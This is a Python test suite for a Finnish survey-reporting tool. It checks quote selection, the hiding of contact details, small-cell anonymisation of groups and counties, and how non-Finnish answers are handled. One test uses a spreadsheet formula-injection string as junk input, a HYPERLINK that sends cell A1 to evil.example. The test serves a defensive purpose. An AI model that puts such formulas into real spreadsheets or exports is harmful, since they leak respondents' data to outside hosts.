"""The report's fixes from the third QA round (a county analyst's survey of 350 respondents).

The answers are team-written; clustering is the real ``cluster_statements`` and the report the
real ``build_model``/``write_report``.
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from vastausanalyysi.report import write_report
from vastausanalyysi.report.model import build_model, publishable_answers
from vastausanalyysi.report.narrative import summary_text
from vastausanalyysi.report.quotes import distinct_quotes, quote_key, same_phrase
from vastausanalyysi.summary import theme_frequencies

DEVELOP = "Mitä yhteistyössä pitäisi erityisesti kehittää?"
OTHER = "Muita kommentteja yhteistyöstä"
WISH = "Vastakkainasettelua pitäisi vähentää."
LIST = "1) työnjako\n2) tiedonkulku\n3) yhteiset tavoitteet"
PLAN = "Ikääntyneiden asumisen ratkaisut pitää suunnitella yhdessä."
PROBLEM = "Tiedonkulku hyvinvointialueelta kuntaan on heikkoa."
NON_ANSWER = "Ei kommentteja."
ENGLISH = "Communication from the wellbeing services county should be faster."


def _frame(rows: list[tuple[str, str, str, str, str, str]]) -> pd.DataFrame:
    frame = pd.DataFrame(
        rows,
        columns=["respondent_id", "question", "coarse_group", "region", "text", "polarity"],
    )
    frame["areas"] = [[] for _ in range(len(frame))]
    frame["mechanisms"] = [[] for _ in range(len(frame))]
    return frame


def _development_survey() -> pd.DataFrame:
    rows = []
    texts = [WISH, LIST, PLAN, PROBLEM, NON_ANSWER, ENGLISH]
    polarity = ["neutral", "neutral", "neutral", "problem", "neutral", "neutral"]
    for k, (text, pol) in enumerate(zip(texts, polarity, strict=True)):
        for i in range(6):
            who = f"R{k}{i}"
            rows.append((who, DEVELOP, "toimialajohto", "08", text, pol))
            rows.append((who, OTHER, "toimialajohto", "08", PLAN, "neutral"))
    frame = _frame(rows)
    frame["language"] = ["en" if t == ENGLISH else "fi" for t in frame["text"]]
    return frame


def test_development_question_takes_wishes_but_not_non_answers_or_other_languages() -> None:
    tagged = _development_survey()
    model = build_model(tagged, None, None, None, "t", None, False)
    sections = {s.title: s for s in model.questions}
    develop = next(p for p in sections[DEVELOP].parts if p.key == "kehitettavaa")
    answered = {i for i, t in enumerate(tagged["text"]) if t in (WISH, LIST, PLAN, PROBLEM)}
    answered &= set(tagged.index[tagged["question"] == DEVELOP])
    assert set(develop.positions) == answered  # 24 answers: the wishes, the list and the problem
    assert develop.respondents == 24
    quoted = {q.text for t in develop.themes for q in t.quotes}
    assert WISH in quoted
    # a neutral comment under another question is not something to develop
    other = next(p for p in sections[OTHER].parts if p.key == "kehitettavaa")
    assert other.statements == 0


CONTACT = [
    "Lisätietoja [NIMI] p. [PUHELIN].",
    "Voitte olla yhteydessä minuun: [PUHELIN] / [NIMI]",
    "Henkilötunnukseni on [HETU], jos tarvitsette.",
]
SAYS_SOMETHING = [
    "[NIMI] on tehnyt hyvää työtä, häneen saa yhteyden numerosta [PUHELIN].",
    "Perhekeskustoiminta ja neuvolat toimivat. Lisätietoja [NIMI] p. [PUHELIN].",
    "Oppilashuolto toimii kun [NIMI] on mukana.",
]


def test_contact_details_are_not_quoted_the_next_representative_is() -> None:
    texts = [*CONTACT, *SAYS_SOMETHING]
    quotes = distinct_quotes(
        range(len(texts)),
        texts,
        [f"R{i}" for i in range(len(texts))],
        [True] * len(texts),
        [[] for _ in texts],
        limit=3,
        shown=set(),
    )
    assert [q.text for q in quotes] == SAYS_SOMETHING


def test_highlights_skip_contact_details() -> None:
    rows = []
    for i in range(6):  # the contact line has the most codes: it would be picked first
        rows.append((f"A{i}", OTHER, "toimialajohto", "08", CONTACT[0], "works"))
        rows.append((f"A{i}", DEVELOP, "toimialajohto", "08", SAYS_SOMETHING[2], "works"))
    tagged = _frame(rows)
    codes = {CONTACT[0]: ["perhekeskus", "oppilashuolto"], SAYS_SOMETHING[2]: ["oppilashuolto"]}
    tagged["areas"] = [codes.get(t, []) for t in tagged["text"]]
    model = build_model(tagged, None, None, None, "t", None, False, questions=False)
    ((_, picks, _),) = model.highlights
    assert [p["text"] for p in picks] == [SAYS_SOMETHING[2]]


WORKS_Q = "Millä yhdyspinnoilla yhteistyö erityisesti toimii?"


def test_a_list_item_is_said_to_be_mentioned_not_written_alone(tmp_path: Path) -> None:
    rows = []
    for i in range(6):
        rows.append((f"L{i}", WORKS_Q, "toimialajohto", "08", "- perhekeskus\n- hyte", "works"))
        rows.append(
            (f"W{i}", WORKS_Q, "toimialajohto", "08", "Varautuminen toimii hyvin.", "works")
        )
    html = write_report(tmp_path, tagged=_frame(rows), mask=False)[0].read_text(encoding="utf-8")
    footers = dict(re.findall(r"<blockquote><p>(.*?)</p><footer>(.*?)</footer>", html))
    assert footers["perhekeskus"] == "6 vastaajaa mainitsi saman"  # nobody wrote it alone
    assert footers["Varautuminen toimii hyvin."] == "6 vastaajaa kirjoitti saman"


def test_the_lead_states_the_answers_with_text_that_the_tone_is_over() -> None:
    rows = []
    for i in range(6):
        rows.append(
            (f"R{i}", WORKS_Q, "toimialajohto", "08", "Varautuminen toimii hyvin.", "works")
        )
        rows.append((f"R{i}", DEVELOP, "toimialajohto", "08", "" if i < 2 else PROBLEM, "problem"))
    model = build_model(_frame(rows), None, None, None, "t", None, False, questions=False)
    lead = summary_text(model)
    assert lead.startswith("Aineistossa on 12 vastausta 6 vastaajalta; tekstiä on 10 vastauksessa")
    assert "Tekstiä sisältävien 10 vastauksen sävy: toimii 6 (60,0 %), ongelma 4 (40,0 %)" in lead


def test_answers_in_other_languages_are_said_to_be_uncoded_in_report_and_workbook(
    tmp_path: Path,
) -> None:
    rows = []
    for i in range(6):
        rows.append(
            (f"R{i}", WORKS_Q, "toimialajohto", "08", "Varautuminen toimii hyvin.", "works")
        )
        swedish = "Samarbetet kring familjecentret fungerar bra."
        rows.append(
            (f"R{i}", DEVELOP, "toimialajohto", "08", ENGLISH if i < 2 else swedish, "neutral")
        )
    tagged = _frame(rows)
    tagged["language"] = ["fi", "en", "fi", "en"] + ["fi", "sv"] * 4
    html, xlsx, md = write_report(tmp_path, tagged=tagged, mask=False)
    line = "6 vastausta (ruotsiksi 4, englanniksi 2) ei ole suomeksi, eikä niitä koodattu"
    assert line in html.read_text(encoding="utf-8")
    assert line in md.read_text(encoding="utf-8")
    # the tone is over the coded (Finnish) answers only
    assert "Suomenkielisten 6 vastauksen sävy: toimii 6 (100,0 %)" in md.read_text(encoding="utf-8")
    book = load_workbook(xlsx, read_only=True)
    method = {r[0]: r[1] for r in book["menetelma"].iter_rows(values_only=True)}
    assert method["Kieli"].startswith(line)
    sheet = list(book["vastaukset"].iter_rows(values_only=True))
    tone = sheet[0].index("Sävy")
    assert len(sheet) == 1 + len(tagged)  # no row dropped
    assert [r[tone] for r in sheet[1:]].count("ei koodattu (ruotsiksi)") == 4
    assert [r[tone] for r in sheet[1:]].count("ei koodattu (englanniksi)") == 2


def _county_survey() -> pd.DataFrame:
    """County 08: 10 officials, 2 chairs, 3 directors, 2 others; county 13: 8 officials,
    4 chairs, 2 directors; county 20: 9 officials, 1 chair. Chairs (7) and directors (5) are
    big enough as groups, not in a county; "muut" (2) is small."""
    people = [
        *[("08", "toimialajohto")] * 10,
        *[("08", "puheenjohtajat")] * 2,
        *[("08", "kuntajohto")] * 3,
        *[("08", "muut")] * 2,
        *[("13", "toimialajohto")] * 8,
        *[("13", "puheenjohtajat")] * 4,
        *[("13", "kuntajohto")] * 2,
        *[("20", "toimialajohto")] * 9,
        *[("20", "puheenjohtajat")] * 1,
    ]
    rows = []
    for i, (county, group) in enumerate(people):
        text = f"Perhekeskus toimii hyvin, sanoo vastaaja {i} ({group})."
        rows.append((f"R{i}", WORKS_Q, group, county, text, "works"))
    frame = _frame(rows)
    frame["areas"] = [["perhekeskus"] for _ in range(len(frame))]
    return frame


def test_one_small_cell_rule_publishes_texts_of_big_groups_and_counties_without_small_labels(
    tmp_path: Path,
) -> None:
    tagged = _county_survey()
    freqs = theme_frequencies(tagged, "region", min_cell=5)
    paths = write_report(tmp_path, tagged=tagged, frequencies=freqs, mask=False)
    sheet = list(load_workbook(paths[1], read_only=True)["vastaukset"].iter_rows(values_only=True))
    h = sheet[0]
    rows = sheet[1:]
    county = [r[h.index("Hyvinvointialue (koodi)")] for r in rows]
    group = [r[h.index("Vastaajaryhmä (koodi)")] for r in rows]
    text = [r[h.index("Vastaus")] for r in rows]
    truth = list(zip(tagged["region"], tagged["coarse_group"], strict=True))
    hidden_text = [str(t).startswith("(piilotettu") for t in text]
    # the text is shown when the group and the county each have 5 respondents
    assert hidden_text == [g == "muut" for _, g in truth]
    # chairs and directors are under 5 in each county: their group is shown, not their county
    for (c, g), shown_c, shown_g in zip(truth, county, group, strict=True):
        if g in ("puheenjohtajat", "kuntajohto"):
            assert (shown_c, shown_g) == ("(piilotettu)", g)
        elif g == "muut":
            assert (shown_c, shown_g) == ("(piilotettu)", "(piilotettu)")
        elif c == "20":  # 1 chair without county: 20's total minus its officials is theirs
            assert (shown_c, shown_g) == ("(piilotettu)", g)
        else:
            assert (shown_c, shown_g) == (c, g)  # 7 and 6 without county: officials keep it
    # no published combination of labels is shared by fewer than 5 respondents
    for shown_c, shown_g in set(zip(county, group, strict=True)):
        sharing = [
            (c, g)
            for c, g in truth
            if shown_c in ("(piilotettu)", c) and shown_g in ("(piilotettu)", g)
        ]
        assert len(sharing) >= 5, (shown_c, shown_g)
    # per county, those listed without it (a table's total minus the rest) are 0 or 5 or more
    for c in {c for c, _ in truth}:
        off = sum(1 for (tc, _), sc in zip(truth, county, strict=True) if tc == c and sc != c)
        assert off == 0 or off >= 5, c
    # the file beside the report follows the same rule
    safe = publishable_answers(tagged, freqs, 5)
    assert safe["region"].tolist() == county
    assert safe["coarse_group"].tolist() == group
    assert [str(t).startswith("(piilotettu") for t in safe["text"]] == hidden_text
    # the highlights quote chairs under their (published) group
    html = paths[0].read_text(encoding="utf-8")
    highlights = html[html.index('id="nostot"') :]
    assert "(puheenjohtajat)" in highlights
    assert "(muut)" not in html


def test_a_county_the_tables_hide_keeps_its_texts_hidden_and_labels_off(tmp_path: Path) -> None:
    tagged = _county_survey()
    small = _frame(
        [(f"S{i}", WORKS_Q, "toimialajohto", "90", f"Pieni alue {i}.", "works") for i in range(3)]
    )
    tagged = pd.concat([tagged, small], ignore_index=True)
    freqs = theme_frequencies(tagged, "region", min_cell=5)
    safe = publishable_answers(tagged, freqs, 5)
    rows = tagged["region"] == "90"
    assert not any("Pieni alue" in t for t in safe["text"])
    assert set(safe.loc[rows, "region"]) == {"(piilotettu)"}
    assert set(safe.loc[rows, "coarse_group"]) == {"(piilotettu)"}


def test_a_cluster_whose_wordings_were_quoted_earlier_quotes_one_again_marked() -> None:
    texts = ["Tiedonkulku on parantunut.", "Tiedonkulku on parantunut!", CONTACT[0]]
    who = ["A", "B", "C"]
    args = (range(3), texts, who, [True] * 3, [[] for _ in texts])
    shown = {quote_key(texts[0])}
    (quote,) = distinct_quotes(*args, limit=3, shown=shown)
    assert (quote.text, quote.respondents, quote.repeated) == (texts[0], 2, True)
    assert same_phrase(quote) == "2 vastaajaa kirjoitti saman · lainattu myös edellä"
    # nothing publishable but contact details: no quote at all
    assert distinct_quotes(*args, limit=3, shown=set(map(quote_key, texts[:2]))) != []
    assert distinct_quotes([2], texts, who, [True] * 3, [[]] * 3, limit=3, shown=set()) == []


def test_every_cluster_with_a_publishable_answer_has_a_quote_in_the_report(tmp_path: Path) -> None:
    again = "Tiedonkulku on parantunut."
    rows = []
    for i in range(6):
        rows.append((f"R{i}", WORKS_Q, "toimialajohto", "08", again, "works"))
        rows.append((f"R{i}", OTHER, "toimialajohto", "08", again, "works"))
        rows.append((f"C{i}", OTHER, "toimialajohto", "08", CONTACT[1], "works"))
    html_path, _, md_path = write_report(tmp_path, tagged=_frame(rows), mask=False)
    html = html_path.read_text(encoding="utf-8")
    other = html[html.index('id="kysymys-2-toimii"') : html.index('id="kysymys-2-kehit')]
    assert (
        f"<blockquote><p>{again}</p><footer>6 vastaajaa kirjoitti saman · lainattu myös edellä"
        in other
    )
    assert "Lainauksia ei näytetä: vastaukset ovat pelkkiä yhteystietoja." in other
    assert "samat sanamuodot on lainattu jo edellä" not in html
    md = md_path.read_text(encoding="utf-8")
    assert f"> ”{again}” (6 vastaajaa; lainattu myös edellä)" in md


def test_an_answer_listed_without_group_and_county_shows_no_subgroup_either() -> None:
    """By group: "muut" (3) is hidden and "kuntajohto" (5) secondarily; their detailed group
    ("kunnanjohtaja", 5 on its own) would tell the group, so it is left out too."""
    people = [("toimialajohto", "sivistysjohtaja")] * 4 + [("toimialajohto", "tekninen")] * 4
    people += [("kuntajohto", "kunnanjohtaja")] * 5 + [("muut", "muu")] * 3
    rows = [
        (f"R{i}", WORKS_Q, group, "08", f"Perhekeskus toimii, {i}.", "works")
        for i, (group, _) in enumerate(people)
    ]
    tagged = _frame(rows)
    tagged["group"] = [title for _, title in people]
    freqs = theme_frequencies(tagged, "coarse_group", min_cell=5)
    safe = publishable_answers(tagged, freqs, 5)
    hidden = tagged["coarse_group"].isin(["muut", "kuntajohto"])
    assert set(safe.loc[hidden, "coarse_group"]) == {"(piilotettu)"}
    assert set(safe.loc[hidden, "group"]) == {"(piilotettu)"}
    assert set(safe.loc[~hidden, "coarse_group"]) == {"toimialajohto"}


def test_an_uncoded_answer_is_no_highlight() -> None:
    # QA 5: '=HYPERLINK(…)' (works: an answer to a what-works question) was a group's only pick
    junk = ['=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")', "asdf qwerty"]
    rows = [(f"A{i}", OTHER, "toimialajohto", "08", junk[i % 2], "works") for i in range(6)]
    rows += [(f"B{i}", OTHER, "toimialajohto", "08", SAYS_SOMETHING[2], "works") for i in range(2)]
    tagged = _frame(rows)
    tagged["areas"] = [["oppilashuolto"] if t == SAYS_SOMETHING[2] else [] for t in tagged["text"]]
    model = build_model(tagged, None, None, None, "t", None, False, questions=False)
    ((_, picks, _),) = model.highlights
    assert [p["text"] for p in picks] == [SAYS_SOMETHING[2]]
    tagged["areas"] = [[] for _ in range(len(tagged))]  # nothing coded: no pick, and a note
    model = build_model(tagged, None, None, None, "t", None, False, questions=False)
    ((_, picks, note),) = model.highlights
    assert picks == [] and "koodattuja" in note


def test_a_cluster_of_contact_lines_says_why_it_has_no_example() -> None:
    # QA 5: a "lisätieto" cluster of 31 respondents had an empty example cell
    from vastausanalyysi.clusters import cluster_statements
    from vastausanalyysi.report.markdown import render_markdown

    texts = [CONTACT[0]] * 8 + ["Perhekeskuksen yhteistyö neuvolan kanssa toimii hyvin."] * 8
    rows = [(f"A{i}", OTHER, "toimialajohto", "08", t, "works") for i, t in enumerate(texts)]
    tagged = _frame(rows)
    clustering = cluster_statements(tagged, n_clusters=2)
    model = build_model(tagged, None, clustering, None, "t", None, False, questions=False)
    contact = [t for t in model.overall.themes if t.number is not None and not t.quotes]
    assert len(contact) == 1
    assert contact[0].no_quotes(5) == "vastaukset ovat pelkkiä yhteystietoja"
    assert "(vastaukset ovat pelkkiä yhteystietoja)" in render_markdown(model)
